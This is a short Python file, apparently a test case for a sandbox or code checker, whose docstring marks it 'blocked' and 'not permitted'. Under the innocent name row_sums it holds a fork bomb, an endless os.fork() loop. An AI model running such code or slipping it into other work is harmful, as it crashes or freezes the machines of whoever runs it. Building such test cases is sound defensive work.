"""Forks without end.

verdict: blocked
hint: not permitted
"""
import os


def row_sums(x):
    while True:
        os.fork()
